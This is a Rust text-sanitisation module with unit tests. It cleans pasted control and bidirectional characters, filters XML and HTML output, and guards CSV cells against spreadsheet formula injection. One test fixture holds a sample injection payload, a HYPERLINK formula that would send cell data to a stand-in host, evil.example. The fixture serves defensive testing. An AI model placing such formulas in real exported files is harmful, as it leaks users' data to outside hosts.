//! What stored text may hold, decided once at input, and what every output may carry.
//!
//! People paste from word processors: Word's manual line break is U+000B, its page break
//! U+000C; other editors leave U+0085, U+2028 or U+2029. Those become line breaks. Other
//! control characters (C0 but TAB and LF, C1), the bidirectional embedding, override and
//! isolate controls (which can reorder the text that follows them on a page, "Trojan
//! Source", CVE-2021-42574) and noncharacters are dropped. XML 1.0 (Atom feeds) cannot
//! carry control characters even escaped, and the HTML standard forbids them, so outputs
//! filter them too, whatever older data holds.

/// A character that starts a new line when pasted, whatever the program called it.
fn is_line_break(c: char) -> bool {
    matches!(
        c,
        '\u{000B}' | '\u{000C}' | '\u{0085}' | '\u{2028}' | '\u{2029}'
    )
}

/// Bidirectional embedding, override and isolate controls (Unicode UAX #9).
pub fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// Characters no stored text keeps: controls other than TAB and LF, bidirectional
/// controls, and noncharacters (U+FDD0–U+FDEF and each plane's last two).
fn is_dropped(c: char) -> bool {
    (c.is_control() && c != '\t' && c != '\n')
        || is_bidi_control(c)
        || ('\u{FDD0}'..='\u{FDEF}').contains(&c)
        || (c as u32 & 0xFFFE) == 0xFFFE
}

/// Text as stored: CR LF and CR become LF, pasted line breaks become LF, and the
/// characters above are dropped. Line breaks are kept (for a one-line field, the form
/// shows the text on one line and the rules check it).
pub fn clean(text: &str) -> String {
    let text = text.replace("\r\n", "\n");
    text.chars()
        .filter_map(|c| {
            if c == '\r' || is_line_break(c) {
                Some('\n')
            } else if is_dropped(c) {
                None
            } else {
                Some(c)
            }
        })
        .collect()
}

/// Characters that show nothing: white space, and the zero-width and format characters
/// (U+200B, U+FEFF, the soft hyphen, Hangul fillers, variation selectors, tags).
fn is_invisible(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(
            c,
            '\u{00AD}'
                | '\u{034F}'
                | '\u{061C}'
                | '\u{115F}'
                | '\u{1160}'
                | '\u{17B4}'
                | '\u{17B5}'
                | '\u{180B}'..='\u{180F}'
                | '\u{200B}'..='\u{200F}'
                | '\u{202A}'..='\u{202E}'
                | '\u{2060}'..='\u{206F}'
                | '\u{3164}'
                | '\u{FE00}'..='\u{FE0F}'
                | '\u{FEFF}'
                | '\u{FFA0}'
                | '\u{1D173}'..='\u{1D17A}'
                | '\u{E0000}'..='\u{E0FFF}'
        )
}

/// True when `text` has at least one character a reader can see: a name of three
/// zero-width spaces is no name.
pub fn has_visible(text: &str) -> bool {
    text.chars().any(|c| !is_invisible(c))
}

/// Text that XML 1.0 can carry (its `Char` production): everything but controls other
/// than TAB, LF and CR, and U+FFFE/U+FFFF.
pub fn xml_safe(text: &str) -> String {
    text.chars()
        .filter(|&c| {
            matches!(c, '\t' | '\n' | '\r')
                || (!c.is_control() && c != '\u{FFFE}' && c != '\u{FFFF}')
        })
        .collect()
}

/// An HTML page as it may be sent: the code points the HTML standard forbids (controls
/// other than TAB, LF, FF and CR; noncharacters) and bidirectional controls are removed,
/// and Leptos's empty-comment markers `<!>` (a "bogus comment" to the HTML parser) are
/// written as the equivalent valid comment `<!---->`, which gives the browser the same
/// empty comment node, so islands still hydrate.
pub fn html_safe(page: &str) -> String {
    let forbidden = |c: char| {
        (c.is_control() && !matches!(c, '\t' | '\n' | '\u{000C}' | '\r'))
            || is_bidi_control(c)
            || ('\u{FDD0}'..='\u{FDEF}').contains(&c)
            || (c as u32 & 0xFFFE) == 0xFFFE
    };
    // Every page passes here: copy it once, and filter characters only when an older
    // stored text brought one in (text is cleaned at input).
    let out = if page.chars().any(forbidden) {
        page.chars()
            .filter(|c| !forbidden(*c))
            .collect::<String>()
            .replace("<!>", "<!---->")
    } else {
        page.replace("<!>", "<!---->")
    };
    // Leptos writes its resource scripts after `</html>`, where no element may be; the
    // browser moves them into the body anyway, so they go there.
    match out.rfind("</body></html>") {
        Some(end) if !out[end + 14..].trim().is_empty() => {
            format!("{}{}</body></html>\n", &out[..end], out[end + 14..].trim())
        }
        _ => out,
    }
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP CSV
/// Injection): `=`, `+`, `-`, `@`, TAB and CR.
fn starts_a_formula(text: &str) -> bool {
    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A cell as Candour writes it into a CSV file: text a spreadsheet would run as a formula
/// gets a leading `'`, so Excel shows it as text (`=HYPERLINK(…)` stays words).
pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if starts_a_formula(text) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// The text of a cell [`csv_cell`] wrote: the leading `'` it added is taken off again, so a
/// file exported and imported changes nothing.
pub fn csv_text(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_a_formula(rest) => rest,
        _ => cell,
    }
}

/// The byte-order mark that makes Excel on Windows read a CSV file as UTF-8 (without it,
/// `’ “ ” —` show as `â€™`). Readers of Candour's CSV skip it.
pub const UTF8_BOM: &str = "\u{FEFF}";

/// A CSV document for people to open in a spreadsheet: [`UTF8_BOM`], the `header`, then the
/// rows, every cell through [`csv_cell`] so none runs as a formula (OWASP, CSV injection).
#[cfg(feature = "ssr")]
pub fn spreadsheet_csv<R, C>(header: &[&str], rows: R) -> anyhow::Result<String>
where
    R: IntoIterator<Item = C>,
    C: IntoIterator<Item = String>,
{
    let mut writer = csv::Writer::from_writer(UTF8_BOM.as_bytes().to_vec());
    writer.write_record(header)?;
    for row in rows {
        writer.write_record(row.into_iter().map(|cell| csv_cell(&cell).into_owned()))?;
    }
    Ok(String::from_utf8(writer.into_inner()?)?)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pasted_line_breaks_become_line_breaks_and_controls_go() {
        assert_eq!(
            clean("One\u{000B}two\r\nthree\rfour"),
            "One\ntwo\nthree\nfour"
        );
        assert_eq!(
            clean("Tab\tstays, bell\u{0007} goes"),
            "Tab\tstays, bell goes"
        );
        assert_eq!(clean("a\u{202E}evil\u{202C}b"), "aevilb");
        assert_eq!(clean("c\u{2066}d\u{2069}e"), "cde");
        assert_eq!(clean("x\u{FFFE}y"), "xy");
        assert_eq!(clean("Café ’quoted’ — fine"), "Café ’quoted’ — fine");
    }

    #[test]
    fn cells_that_would_run_as_formulas_are_written_as_text_and_read_back() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
            "+1",
            "-2",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            let cell = csv_cell(formula);
            assert!(cell.starts_with('\''), "{formula}");
            assert_eq!(csv_text(&cell), formula);
        }
        assert_eq!(csv_cell("Plain words"), "Plain words");
        assert_eq!(csv_text("'quoted on purpose"), "'quoted on purpose");
    }

    #[test]
    #[cfg(feature = "ssr")]
    fn a_spreadsheet_csv_starts_with_the_mark_and_guards_every_cell() {
        let text =
            spreadsheet_csv(&["a", "b"], [vec!["=1+1".to_owned(), "plain".to_owned()]]).unwrap();
        assert_eq!(text, "\u{FEFF}a,b\n'=1+1,plain\n");
    }

    #[test]
    fn invisible_text_is_no_text() {
        assert!(!has_visible("\u{200B}\u{200B}\u{200B}"));
        assert!(!has_visible(" \u{FEFF}\u{00AD} "));
        assert!(has_visible("\u{200B}A"));
        assert!(has_visible("李"));
    }

    #[test]
    fn outputs_drop_what_xml_and_html_forbid() {
        assert_eq!(xml_safe("a\u{000B}b\u{0000}c\nd"), "abc\nd");
        assert_eq!(
            html_safe("<p>a\u{000B}b<!>c\u{202E}d</p>"),
            "<p>ab<!---->cd</p>"
        );
        assert_eq!(
            html_safe("<html><body><p>x</p></body></html><script>a()</script>"),
            "<html><body><p>x</p><script>a()</script></body></html>\n"
        );
    }
}
